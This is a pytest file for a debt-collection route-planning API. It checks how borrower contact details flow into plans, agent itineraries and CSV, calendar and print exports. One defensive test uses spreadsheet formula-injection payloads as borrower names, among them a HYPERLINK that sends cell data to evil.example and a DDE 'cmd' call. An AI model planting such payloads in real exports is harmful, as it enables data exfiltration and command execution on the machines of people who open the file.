"""The borrower's contact on a case: checked at the edge, carried to the plan's stops and the
exports, and the agent's itinerary cut down to what the visit needs."""

from __future__ import annotations

import csv
import html
import io
from typing import Any

import icalendar
import pytest
from fastapi.testclient import TestClient

pytestmark = pytest.mark.storage  # scripts/test.sh runs these on PostgreSQL too

DATE = "2026-11-18"
AGENTS = [
    {
        "id": "A-1",
        "start": {"address": "Städtle 43, 9490 Vaduz"},
        "shift": {"start": "08:00", "end": "17:00"},
    }
]
ADDRESSES = [
    "Am Widagraba 7, 9490 Vaduz",
    "Dominik Banzer-Strasse 16, 9495 Triesen",
    "Landstrasse 117, 9490 Vaduz",
]
BORROWERS: list[dict[str, Any] | None] = [
    {"name": "Alma Testbüchel", "phone": "+423 790 99 01", "email": "alma@example.li"},
    {"name": "Berta Probemarxer", "language": "de-CH"},
    None,
]
AGENT_STOP_KEYS = {
    "visit_id", "case_id", "location", "address", "borrower_name", "borrower_phone",
    "arrival", "service_start", "service_end", "travel_seconds", "distance_meters",
    "geometry", "amount_overdue",
}  # fmt: skip
"""Every key of a stop on the agent's day: a new one must be added here on purpose."""
AGENT_DAY_KEYS = {
    "agent_id", "date", "plan_id", "published", "stops", "start_time", "end_time", "conduct",
}  # fmt: skip


def _cases(borrowers: list[dict[str, Any] | None] = BORROWERS) -> list[dict[str, Any]]:
    cases: list[dict[str, Any]] = []
    for k, borrower in enumerate(borrowers):
        case: dict[str, Any] = {
            "id": f"C-{k}",
            "address": ADDRESSES[k],
            "service_minutes": 20,
            "value": 400.0 + k,
            "amount_overdue": 1250.5 + k,
            "days_overdue": 40 + k,
        }
        if borrower is not None:
            case["borrower"] = borrower
        cases.append(case)
    return cases


def _body(cases: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "date": DATE,
        "cases": cases,
        "agents": AGENTS,
        "options": {"time_limit_seconds": 1, "include_geometry": False},
    }


def _plan(client: TestClient, cases: list[dict[str, Any]]) -> dict[str, Any]:
    response = client.post("/plan", json=_body(cases))
    assert response.status_code == 200, response.text
    plan: dict[str, Any] = response.json()
    (itinerary,) = plan["itineraries"]
    assert len(itinerary["stops"]) == len(cases)  # every case visited: the checks see them all
    return plan


def _stops(plan: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {s["case_id"]: s for i in plan["itineraries"] for s in i["stops"]}


def test_the_borrower_rides_along_on_the_plans_stops(client: TestClient) -> None:
    """Name and phone reach each stop of the plan (None when not given), also when the plan
    is read back; e-mail and language stay in the request."""
    plan = _plan(client, _cases())
    stops = _stops(plan)
    assert (stops["C-0"]["borrower_name"], stops["C-0"]["borrower_phone"]) == (
        "Alma Testbüchel",
        "+423 790 99 01",
    )
    assert (stops["C-1"]["borrower_name"], stops["C-1"]["borrower_phone"]) == (
        "Berta Probemarxer",
        None,
    )
    assert (stops["C-2"]["borrower_name"], stops["C-2"]["borrower_phone"]) == (None, None)
    assert client.get(f"/plans/{plan['plan_id']}").json()["itineraries"] == plan["itineraries"]
    assert "alma@example.li" not in str(plan)


def test_the_agents_day_carries_only_what_the_visit_needs(client: TestClient) -> None:
    """Each stop of GET /itinerary has exactly the allowed keys: who, where, when and how
    much to collect; no value, geocoding, days overdue, lateness or waiting."""
    plan = _plan(client, _cases())
    response = client.get("/itinerary/A-1", params={"date": DATE})
    assert response.status_code == 200
    day = response.json()
    assert set(day) == AGENT_DAY_KEYS
    assert day["plan_id"] == plan["plan_id"]
    planned = _stops(plan)
    for stop in day["stops"]:
        assert set(stop) == AGENT_STOP_KEYS
        for key in AGENT_STOP_KEYS - {"amount_overdue"}:
            assert stop[key] == planned[stop["case_id"]][key], key
    mine = {s["case_id"]: s for s in day["stops"]}
    assert mine["C-0"]["amount_overdue"] == 1250.5
    assert mine["C-2"]["amount_overdue"] == 1252.5
    assert mine["C-1"]["borrower_name"] == "Berta Probemarxer"
    for absent in ("value", "geocode", "days_overdue", "snap_distance_meters", "wait_seconds"):
        assert f'"{absent}"' not in response.text
    assert "alma@example.li" not in response.text
    assert "de-CH" not in response.text
    schema = client.get("/openapi.json").json()["components"]["schemas"]["AgentStopOut"]
    assert set(schema["properties"]) == AGENT_STOP_KEYS


def test_the_exports_name_the_borrower(client: TestClient) -> None:
    """The CSV has name and phone columns, the calendar event names the borrower (and the
    phone in its description), the printable page shows both."""
    plan = _plan(client, _cases())
    base = f"/plans/{plan['plan_id']}/itineraries/A-1"
    rows = {r["case_id"]: r for r in csv.DictReader(io.StringIO(client.get(base + ".csv").text))}
    assert rows["C-0"]["borrower_name"] == "Alma Testbüchel"
    assert rows["C-0"]["borrower_phone"] == "'+423 790 99 01"  # a leading + is quoted, as all
    assert (rows["C-2"]["borrower_name"], rows["C-2"]["borrower_phone"]) == ("", "")

    calendar = icalendar.Calendar.from_ical(client.get(base + ".ics").content)
    events = {str(e["summary"]): e for e in calendar.walk("VEVENT")}
    alma = events["Visit C-0, Alma Testbüchel"]
    assert str(alma["description"]) == "Borrower: Alma Testbüchel\nPhone: +423 790 99 01"
    assert "description" not in events["Visit C-2"]

    page = client.get(base + "/print").text
    assert "Alma Testbüchel" in page
    assert "+423 790 99 01" in page
    assert "Berta Probemarxer" in page


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?d="&A1,"Pay here")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0"],
)
def test_a_formula_looking_name_is_no_formula_in_the_exports(client: TestClient, name: str) -> None:
    """A name that a spreadsheet would run is quoted in the CSV, and escaped on the page."""
    plan = _plan(client, _cases([{"name": name, "phone": "+423 790 99 02"}]))
    base = f"/plans/{plan['plan_id']}/itineraries/A-1"
    (row,) = csv.DictReader(io.StringIO(client.get(base + ".csv").text))
    assert row["borrower_name"] == "'" + name
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    page = client.get(base + "/print").text
    assert html.escape(name) in page


@pytest.mark.parametrize(
    ("borrower", "field"),
    [
        ({"name": "Alma Testbüchel", "phone": "call me"}, "phone"),
        ({"name": "Alma Testbüchel", "phone": "12"}, "phone"),
        ({"name": "Alma Testbüchel", "phone": "+423 790 99 01 " * 3}, "phone"),
        ({"name": "Alma Testbüchel", "email": "alma at example.li"}, "email"),
        ({"name": "Alma Testbüchel", "email": "a" * 250 + "@example.li"}, "email"),
        ({"name": "Alma Testbüchel", "language": "Deutsch (Schweiz)"}, "language"),
        ({"name": "Alma Testbüchel", "iban": "LI21 0881 0000 2324 013A A"}, "iban"),
        ({"phone": "+423 790 99 01"}, "name"),
        ({"name": ""}, "name"),
        ({"name": "   "}, "name"),
        ({"name": "Alma\nTestbüchel"}, "name"),
        ({"name": "x" * 201}, "name"),
    ],
)
def test_bad_borrower_fields_are_422_naming_the_field(
    client: TestClient, borrower: dict[str, Any], field: str
) -> None:
    cases = _cases([None, None])
    cases[1]["borrower"] = borrower
    response = client.post("/plan", json=_body(cases))
    assert response.status_code == 422, response.text
    assert [e["loc"] for e in response.json()["detail"]] == [
        ["body", "cases", 1, "borrower", field]
    ]
